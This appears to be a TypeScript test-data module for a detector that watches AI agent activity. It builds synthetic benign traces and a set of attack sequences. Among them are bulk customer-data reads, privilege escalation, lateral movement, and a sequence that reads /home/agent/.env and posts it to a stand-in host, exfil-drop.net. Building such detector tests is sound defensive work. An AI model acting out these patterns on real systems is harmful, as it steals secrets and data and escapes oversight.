/**
 * Test data for the detector: AgentEvent builders, a seeded random source, a few synthetic benign task types
 * with realistic variance, and attack sequences. All synthetic; deterministic for a given seed.
 */
import type {
  AgentEvent,
  DataAccessDetail,
  PrivilegeDetail,
  ToolCallDetail,
  Verdict,
} from '../../../schemas/events.ts';
import {
  type Baseline,
  type BaselineLookup,
  DEFAULT_DETECTOR_CONFIG,
  type DetectorConfig,
  FLEET_TASK_TYPE,
  type TaskState,
  emptyBaseline,
  learn,
  markEnded,
  newTaskState,
  observe,
  recordVerdict,
  score,
  summarize,
} from '../../../services/core/detect/index.ts';

export const TENANT = 't1';
export const T0 = 1_750_000_000_000;

/** mulberry32: a small deterministic PRNG. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function int(r: () => number, lo: number, hi: number): number {
  return lo + Math.floor(r() * (hi - lo + 1));
}

/** Log-normal-ish positive integer around `median` with log-spread `sigma`. */
export function lognormal(r: () => number, median: number, sigma: number): number {
  const u = Math.max(1e-12, r());
  const v = r();
  const z = Math.sqrt(-2 * Math.log(u)) * Math.cos(2 * Math.PI * v);
  return Math.max(0, Math.round(median * Math.exp(sigma * z)));
}

export interface TaskCtx {
  taskId: string;
  taskType: string;
  agentId: string;
  t: number;
  seq: number;
  events: AgentEvent[];
}

export function taskCtx(taskType: string, taskId: string, agentId = 'agent-1', start = T0): TaskCtx {
  return { taskId, taskType, agentId, t: start, seq: 0, events: [] };
}

function base(ctx: TaskCtx, kind: AgentEvent['kind'], name: string, durMs: number, error: boolean): AgentEvent {
  const spanId = `${ctx.taskId}-${String(ctx.seq++)}`;
  const e: AgentEvent = {
    id: `trace-${ctx.taskId}:${spanId}`,
    tenant: TENANT,
    kind,
    taskId: ctx.taskId,
    taskType: ctx.taskType,
    agentId: ctx.agentId,
    traceId: `trace-${ctx.taskId}`,
    spanId,
    parentSpanId: `root-${ctx.taskId}`,
    name,
    startMs: ctx.t,
    endMs: ctx.t + durMs,
    error,
    attributes: {},
  };
  ctx.t += durMs;
  ctx.events.push(e);
  return e;
}

export function gap(ctx: TaskCtx, ms: number): void {
  ctx.t += ms;
}

export function toolCall(
  ctx: TaskCtx,
  name: string,
  opts: Partial<ToolCallDetail> & { error?: boolean; durMs?: number } = {},
): AgentEvent {
  const { error = false, durMs = 200, ...tool } = opts;
  const e = base(ctx, 'tool_call', `execute_tool ${name}`, durMs, error);
  e.tool = { name, ...tool };
  if (error) e.errorType = 'ToolError';
  return e;
}

export function dataAccess(
  ctx: TaskCtx,
  resource: string,
  opts: Partial<DataAccessDetail> & { error?: boolean; durMs?: number } = {},
): AgentEvent {
  const { error = false, durMs = 50, ...d } = opts;
  const e = base(ctx, 'data_access', `SELECT ${resource}`, durMs, error);
  e.data = { resource, operation: 'SELECT', ...d };
  return e;
}

export function privilegeChange(
  ctx: TaskCtx,
  action: string,
  scopesBefore: string[],
  scopesAfter: string[],
  opts: Partial<PrivilegeDetail> = {},
): AgentEvent {
  const e = base(ctx, 'privilege_change', `privilege ${action}`, 20, false);
  e.privilege = { action, scopesBefore, scopesAfter, ...opts };
  return e;
}

// -------------------------------------------------------------------------------------------------------
// Benign task types

export type TaskGen = (ctx: TaskCtx, r: () => number, busy?: number) => void;

/** Helpdesk: read a ticket, search the knowledge base, look up the customer, post a comment. */
export const summarizeTicket: TaskGen = (ctx, r, busy = 1) => {
  toolCall(ctx, 'get_ticket', { type: 'function', sideEffect: 'read' });
  dataAccess(ctx, `tickets/${String(int(r, 1000, 99999))}`, {
    rows: 1,
    bytes: int(r, 800, 4000),
    classification: 'internal',
    system: 'postgresql',
  });
  const searches = Math.max(1, Math.round(lognormal(r, 2, 0.45) * busy));
  for (let i = 0; i < searches; i++) {
    gap(ctx, int(r, 500, 4000));
    toolCall(ctx, 'search_kb', { type: 'function', sideEffect: 'read' });
    dataAccess(ctx, 'kb.articles', {
      rows: Math.max(1, lognormal(r, 5, 0.4)),
      bytes: lognormal(r, 20_000, 0.5),
      classification: 'internal',
    });
  }
  if (r() < 0.6) {
    toolCall(ctx, 'lookup_customer', { type: 'function', sideEffect: 'read' });
    dataAccess(ctx, 'crm.customers', { rows: 1, bytes: int(r, 300, 900), classification: 'confidential' });
  }
  if (r() < 0.04) toolCall(ctx, 'search_kb', { type: 'function', sideEffect: 'read', error: true });
  if (r() < 0.3) privilegeChange(ctx, 'token_issue', ['helpdesk:read'], ['helpdesk:read', 'helpdesk:comment']);
  gap(ctx, int(r, 1000, 8000));
  toolCall(ctx, 'summarize', { type: 'function' });
  toolCall(ctx, 'post_comment', {
    type: 'function',
    sideEffect: 'write',
    target: 'https://helpdesk.acme.io/api/comments',
  });
};

/** Deploys: checkout, tests, fetch a deploy key from the vault, deploy, notify. */
export const deployService: TaskGen = (ctx, r, busy = 1) => {
  toolCall(ctx, 'git_checkout', { sideEffect: 'read', target: 'https://git.acme.io/svc' });
  dataAccess(ctx, 'repo/config.yaml', { bytes: lognormal(r, 4000, 0.3), classification: 'internal', system: 'file' });
  const runs = Math.max(1, Math.round(lognormal(r, 1.5, 0.4) * busy));
  for (let i = 0; i < runs; i++) {
    gap(ctx, int(r, 20_000, 90_000));
    toolCall(ctx, 'run_tests', { sideEffect: 'read', error: r() < 0.1 });
  }
  toolCall(ctx, 'get_secret', { sideEffect: 'read' });
  dataAccess(ctx, 'vault/secret/deploy-key', { rows: 1, bytes: 512, classification: 'restricted', system: 'vault' });
  privilegeChange(ctx, 'assume_role', ['deploy:staging'], ['deploy:staging', 'deploy:prod'], {
    grantedBy: 'ci-policy',
    approved: true,
  });
  toolCall(ctx, 'deploy', { sideEffect: 'write', target: 'https://deploy.acme.io/v1/releases' });
  toolCall(ctx, 'notify_slack', { sideEffect: 'write', target: 'https://hooks.slack.com/services/T0/B0' });
};

/** Reports: several large analytical reads (high variance), then an upload to the internal report store. */
export const buildReport: TaskGen = (ctx, r, busy = 1) => {
  const queries = Math.max(1, Math.round(lognormal(r, 4, 0.5) * busy));
  for (let i = 0; i < queries; i++) {
    toolCall(ctx, 'run_query', { sideEffect: 'read' });
    dataAccess(ctx, r() < 0.5 ? 'warehouse.sales' : 'warehouse.orders', {
      rows: lognormal(r, 20_000, 0.8),
      bytes: lognormal(r, 2_000_000, 0.8),
      classification: 'internal',
      system: 'clickhouse',
    });
    gap(ctx, int(r, 2000, 20_000));
  }
  toolCall(ctx, 'render_chart', { type: 'function' });
  toolCall(ctx, 'upload_report', { sideEffect: 'write', target: 'https://reports.acme.io/upload' });
};

export const TYPES: Readonly<Record<string, TaskGen>> = {
  summarize_ticket: summarizeTicket,
  deploy_service: deployService,
  build_report: buildReport,
};

export function benignTask(
  taskType: string,
  taskId: string,
  r: () => number,
  opts: { agentId?: string; start?: number; busy?: number } = {},
): TaskCtx {
  const gen = TYPES[taskType];
  if (gen === undefined) throw new Error(`no generator for ${taskType}`);
  const ctx = taskCtx(taskType, taskId, opts.agentId ?? `agent-${String(int(r, 1, 3))}`, opts.start ?? T0);
  gen(ctx, r, opts.busy ?? 1);
  return ctx;
}

// -------------------------------------------------------------------------------------------------------
// Running tasks through the detector

export interface RunResult {
  state: TaskState;
  verdicts: Verdict[];
  max: Verdict;
  /** Index of the first event whose verdict revoked (-1 none). */
  firstRevoke: number;
}

export function run(
  events: readonly AgentEvent[],
  baselines: BaselineLookup,
  config: DetectorConfig = DEFAULT_DETECTOR_CONFIG,
  endAfter?: number,
): RunResult {
  const first = events[0];
  if (first === undefined) throw new Error('no events');
  const state = newTaskState({
    tenant: first.tenant,
    taskId: first.taskId,
    taskType: first.taskType,
    agentId: first.agentId,
    startMs: first.startMs,
  });
  const verdicts: Verdict[] = [];
  events.forEach((e, i) => {
    observe(state, e);
    const v = score(e, state, baselines, config);
    recordVerdict(state, v);
    verdicts.push(v);
    if (endAfter === i) markEnded(state, e.endMs);
  });
  let max = verdicts[0] as Verdict;
  for (const v of verdicts) if (v.score > max.score) max = v;
  return { state, verdicts, max, firstRevoke: verdicts.findIndex((v) => v.decision === 'revoke') };
}

/** Fold events into a fresh task state, without scoring. */
export function stateOf(events: readonly AgentEvent[], endMs?: number): TaskState {
  const first = events[0];
  if (first === undefined) throw new Error('no events');
  const state = newTaskState({
    tenant: first.tenant,
    taskId: first.taskId,
    taskType: first.taskType,
    agentId: first.agentId,
    startMs: first.startMs,
  });
  for (const e of events) observe(state, e);
  if (endMs !== undefined) markEnded(state, endMs);
  return state;
}

export interface Trained {
  type: Baseline;
  fleet: Baseline;
  lookup: BaselineLookup;
}

/** Learn `n` benign tasks of `taskType` (and `otherTasks` of each other type into the fleet). */
export function train(taskType: string, n: number, seed = 1, otherTasks = 0): Trained {
  const r = rng(seed);
  const type = emptyBaseline(taskType);
  const fleet = emptyBaseline(FLEET_TASK_TYPE);
  for (let i = 0; i < n; i++) {
    const s = summarize(stateOf(benignTask(taskType, `${taskType}-${String(i)}`, r).events));
    learn(type, s);
    learn(fleet, s);
  }
  for (const other of Object.keys(TYPES)) {
    if (other === taskType) continue;
    for (let i = 0; i < otherTasks; i++)
      learn(fleet, summarize(stateOf(benignTask(other, `${other}-${String(i)}`, r).events)));
  }
  return { type, fleet, lookup: { type, fleet } };
}

// -------------------------------------------------------------------------------------------------------
// Attacks: each continues a task that began normally.

export type Attack = (ctx: TaskCtx, r: () => number) => void;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  /** One huge read of customer data, then an upload. */
  exfiltration_burst: (ctx) => {
    toolCall(ctx, 'lookup_customer', { sideEffect: 'read' });
    dataAccess(ctx, 'crm.customers', { rows: 50_000, bytes: 40_000_000, classification: 'confidential' });
  },
  /** Many reads, each within the per-access norm, summing far beyond the per-task norm. */
  slow_drip: (ctx, r) => {
    for (let i = 0; i < 40; i++) {
      toolCall(ctx, 'lookup_customer', { sideEffect: 'read' });
      dataAccess(ctx, 'crm.customers', {
        rows: int(r, 5, 9),
        bytes: int(r, 2000, 4000),
        classification: 'confidential',
      });
      gap(ctx, int(r, 3000, 9000));
    }
  },
  /** A tool this type never uses. */
  unseen_tool: (ctx) => {
    toolCall(ctx, 'shell_exec', { type: 'function', sideEffect: 'destructive' });
  },
  /** Escalation into an administrative scope. */
  privilege_escalation: (ctx) => {
    privilegeChange(ctx, 'elevate', ['helpdesk:read'], ['helpdesk:read', 'iam:admin'], { approved: false });
  },
  /** Wandering into resources the type never touches. */
  lateral_movement: (ctx) => {
    dataAccess(ctx, 'hr.salaries', { rows: 3, bytes: 900, classification: 'confidential' });
    dataAccess(ctx, 'finance.payroll', { rows: 2, bytes: 700, classification: 'confidential' });
    dataAccess(ctx, 'it.assets', { rows: 4, bytes: 1200, classification: 'internal' });
  },
  /** Read a secret, then send it out to a host the type never contacts. */
  secret_then_egress: (ctx) => {
    toolCall(ctx, 'read_file', { sideEffect: 'read' });
    dataAccess(ctx, '/home/agent/.env', { rows: 0, bytes: 600, system: 'file' });
    toolCall(ctx, 'http_request', { target: 'https://collector.exfil-drop.net/upload' });
  },
  /** A burst of failing calls against many targets. */
  probing_storm: (ctx, r) => {
    const tools = ['get_ticket', 'search_kb', 'lookup_customer', 'admin_api', 'list_users', 'read_file'];
    for (let i = 0; i < 30; i++) {
      toolCall(ctx, tools[i % tools.length] ?? 'x', {
        target: `https://helpdesk.acme.io/api/${String(i)}`,
        error: true,
        durMs: 50,
      });
      gap(ctx, int(r, 200, 1500));
    }
  },
};

/** Events to send after the task ended (credentials used after the task). */
export function afterEnd(ctx: TaskCtx): AgentEvent {
  gap(ctx, 60_000);
  return toolCall(ctx, 'lookup_customer', { sideEffect: 'read' });
}
